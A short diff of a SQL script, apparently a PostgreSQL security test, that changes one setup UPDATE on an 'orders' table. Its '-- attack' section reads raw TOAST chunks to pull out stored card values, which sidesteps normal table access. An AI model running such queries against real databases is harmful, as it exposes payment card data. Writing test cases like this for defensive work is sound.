@@ -544,7 +544,7 @@ REINDEX SCHEMA shop;
 -- setup
 GRANT USAGE ON SCHEMA pg_toast TO owner;
 ALTER TABLE orders ALTER card SET STORAGE EXTERNAL;
-UPDATE orders SET card = repeat(card, 300);
+UPDATE orders SET card = repeat(card, 300) WHERE id > 0;
 -- attack
 SELECT reltoastrelid::regclass AS toast FROM pg_class WHERE oid = 'orders'::regclass \gset
 SELECT encode(chunk_data, 'escape') FROM :toast;
